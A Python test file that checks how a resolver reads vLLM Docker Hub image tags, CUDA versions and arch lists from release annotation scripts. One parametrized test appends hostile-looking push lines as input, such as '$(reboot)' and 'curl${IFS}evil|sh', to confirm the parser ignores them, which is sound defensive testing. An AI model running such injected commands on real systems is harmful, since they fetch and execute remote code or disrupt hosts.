"""NVIDIA image tags before the publish script (issue 38, H13): from 0.9.1 to 0.20.1 the release
annotation (``.buildkite/scripts/annotate-release.sh``) lists the commands that copy the
pipeline's image to Docker Hub; the tags are read from it, from the recorded sdist slices
(recorded/SOURCES.md), and nothing is read where no file of the release says it."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from packaging.version import Version

from resolver.data import overlay
from resolver.refresh.common import Endpoints
from resolver.refresh.cuda import WANTED, CudaSource, cuda_record
from resolver.refresh.http import HttpClient
from resolver.refresh.sdist import IndexFile, read_members

from .conftest import drop_records
from .server import Upstream
from .test_refresh_cuda import SHIPPED, SLICES, _read

ANNOTATE = ".buildkite/scripts/annotate-release.sh"


def _tags(record: dict[str, object]) -> list[str]:
    return [i["tag"] for i in record["image"]]  # type: ignore[attr-defined]


def test_0_9_1_pushed_one_tag_by_hand_with_the_dockerfile_s_cuda_and_arch() -> None:
    r = _read("0.9.1")
    images: list[dict[str, Any]] = r["image"]  # type: ignore[assignment]
    (image,) = images
    assert image["tag"] == "v0.9.1" and image["cuda"] == "12.8"
    assert "9.0" in image["arch"] and image["arch"][-1] == "10.0+PTX"
    # pushed by a person following the annotation: inferred, and no digest is claimed
    assert image["confidence"] == "inferred" and "digest" not in image
    assert ANNOTATE in image["source"] and "docker/Dockerfile" in image["source"]
    assert r["confidence"] == "inferred" and "note" not in r


def test_the_manifest_is_the_tag_not_its_per_arch_parts_nor_latest() -> None:
    """0.11.0 pushes -x86_64 and -aarch64 parts and joins them in a manifest: one family."""
    assert "-x86_64" in read_members((SLICES / "vllm-0.11.0.tar.gz").read_bytes(), WANTED)[ANNOTATE]
    assert _tags(_read("0.11.0")) == ["v0.11.0"]


def test_a_family_of_another_cuda_without_its_own_arch_list_is_left_out_and_said() -> None:
    """0.19.1 pushes -cu130 too, but its pipeline states no arch list for CUDA 13.0 (the
    Dockerfile's is CUDA 12.9's, with 7.0 that CUDA 13 cannot build): not recorded, named."""
    r = _read("0.19.1")
    assert _tags(r) == ["v0.19.1"] and r["image"][0]["cuda"] == "12.9"  # type: ignore[index]
    assert "v0.19.1-cu130" in str(r["note"])


def test_a_cu129_family_takes_the_pipeline_s_arch_list_for_it() -> None:
    r = _read("0.20.1")
    by_tag = {i["tag"]: i for i in r["image"]}  # type: ignore[attr-defined]
    assert list(by_tag) == ["v0.20.1", "v0.20.1-cu129"]
    assert by_tag["v0.20.1"]["cuda"] == "13.0" and "10.0f" in by_tag["v0.20.1"]["arch"]
    assert by_tag["v0.20.1-cu129"]["cuda"] == "12.9" and "10.0" in by_tag["v0.20.1-cu129"]["arch"]
    assert r["confidence"] == "inferred"  # hand-pushed, though the arch lists are the pipeline's


def test_before_the_annotation_no_tag_is_read_and_the_note_says_why() -> None:
    """0.9.0.1's pipeline builds the vllm-openai image into ECR by commit only; no file of the
    sdist names its Docker Hub tag."""
    r = _read("0.9.0.1")
    assert r["image"] == [] and "ECR" in str(r["note"])
    assert _read("0.6.2")["image"] == []


@pytest.mark.parametrize(
    "line",
    [
        'docker push "vllm/vllm-openai:v${RELEASE_VERSION}-$(reboot)"',
        "docker push vllm/vllm-openai:v${RELEASE_VERSION}-x;curl${IFS}evil|sh",
        "docker push vllm/vllm-openai:v${RELEASE_VERSION} && curl evil",
        "docker push vllm/vllm-openai-rocm:v${RELEASE_VERSION}-base",
        "docker push vllm/vllm-openai:v${RELEASE_VERSION}-rocm",
        "docker push vllm/vllm-openai:latest-cu999",
        "docker tag vllm/vllm-openai:x86_64 vllm/vllm-openai:v${RELEASE_VERSION}-cu999",
    ],
)
def test_only_plain_push_lines_of_the_cuda_repository_are_read(line: str) -> None:
    files = read_members((SLICES / "vllm-0.9.1.tar.gz").read_bytes(), WANTED)
    files[ANNOTATE] += "\n" + line + "\n"
    record, _ = cuda_record(IndexFile(Version("0.9.1"), "", "", "0" * 64, None, None), files)
    assert record is not None and _tags(record) == ["v0.9.1"]


def test_the_publish_script_wins_over_an_annotation() -> None:
    files = read_members((SLICES / "vllm-0.24.0.tar.gz").read_bytes(), WANTED)
    files[ANNOTATE] = read_members((SLICES / "vllm-0.9.1.tar.gz").read_bytes(), WANTED)[ANNOTATE]
    record, _ = cuda_record(IndexFile(Version("0.24.0"), "", "", "0" * 64, None, None), files)
    assert record is not None and record["confidence"] == "exact"
    assert _tags(record) == [i["tag"] for i in SHIPPED["0.24.0"]["image"]]


def test_the_refresh_reads_the_tags_from_the_served_sdist(
    upstream: Upstream, matrix_copy: Path
) -> None:
    """End to end: the index serves 0.9.1's slice (and its real x86_64 wheel entry); the data
    lacks the release; the refresh's candidate is the shipped record but for the slice's hash."""
    name = "vllm-0.9.1.tar.gz"
    data = (SLICES / name).read_bytes()
    sha = hashlib.sha256(data).hexdigest()
    upstream.overrides[f"/files/{name}"] = data
    wheel = "vllm-0.9.1-cp38-abi3-manylinux1_x86_64.whl"
    page = {
        "meta": {"api-version": "1.1"},
        "name": "vllm",
        "files": [
            {"filename": name, "url": f"/files/{name}", "hashes": {"sha256": sha}},
            # PyPI's entry for the wheel (read 2026-12-02); only its name is read
            {"filename": wheel, "url": f"/files/{wheel}", "hashes": {"sha256": "28b99e8d" * 8}},
        ],
    }
    upstream.overrides["/simple/vllm/"] = json.dumps(page).encode()
    drop_records(matrix_copy / "cuda.toml", "version", {"0.9.1"})
    source = CudaSource(
        HttpClient(cache_dir=None), Endpoints.from_env(), overlay.current_raw(), cache=None
    )
    result = source.read()
    assert not result.refused, result.refused
    (cand,) = result.candidates
    assert cand.key == "0.9.1" and _tags(cand.record) == ["v0.9.1"]
    short = SHIPPED["0.9.1"]["sdist_sha256"][:12]

    def same(rec: dict[str, object]) -> dict[str, object]:
        text = json.dumps(rec, sort_keys=True).replace(sha[:12], short)
        out: dict[str, object] = json.loads(text)
        out.pop("sdist_sha256")
        return out

    assert same(cand.record) == same(SHIPPED["0.9.1"])
